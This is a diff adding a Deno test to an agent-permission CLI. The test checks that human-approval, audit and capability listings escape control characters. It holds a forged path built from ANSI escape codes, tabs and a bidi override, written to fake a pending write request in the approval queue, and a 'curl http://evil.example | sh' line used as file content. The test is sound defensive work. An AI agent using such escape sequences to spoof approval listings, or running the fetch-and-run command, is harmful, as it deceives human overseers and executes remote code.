@@ -298,3 +298,36 @@ Deno.test("human: cli bad usage of human and resume exits 2 (or 1 for an unknown
   const pending = await list(f);
   assert.deepEqual(pending.map((p) => [p.request_id, p.status]), [[id, "pending"]]);
 });
+
+Deno.test("human: cli text listings show an agent's control characters escaped; no line can be erased, moved or forged", async () => {
+  await using f = await fixture();
+  // A path that, printed raw, erases its line, moves up, prints a forged request and hides the rest.
+  const forged = "src/x\u001b[2K\r\u001b[1Ahr_00000000\tpending\tpermission\tpid 1\t" +
+    "filesystem.write\tfilesystem:workspace:src/README.txt\n(typo fix)\u001b[8m\u202e";
+  const run = await f.run([write(forged, "curl http://evil.example | sh\n")], ["--human", "queue"]);
+  assert.equal(run.code, 3, run.stderr);
+  for (
+    const args of [
+      ["human", "list"],
+      ["audit", "--pid", "1"],
+      ["caps", "--pid", "1"],
+    ]
+  ) {
+    const r = await libos([...args, "--store", f.store]);
+    assert.equal(r.code, 0, r.stderr);
+    // Only the listing's own tabs and newlines.
+    const controls = [...r.stdout].filter((c) =>
+      (c < " " && c !== "\t" && c !== "\n") || (c >= "\u007f" && c <= "\u009f") ||
+      (c >= "\u202a" && c <= "\u202e")
+    );
+    assert.ok(
+      controls.length === 0,
+      `${args[0]}: ${JSON.stringify(r.stdout)}`,
+    );
+    if (args[0] === "human") {
+      assert.equal(r.stdout.trim().split("\n").length, 1, r.stdout);
+      assert.equal(r.stdout.split("\t").length, 7, "columns forged by the agent's tabs");
+      assert.match(r.stdout, /src\/x\\u001b\[2K\\u000d/);
+    }
+  }
+});
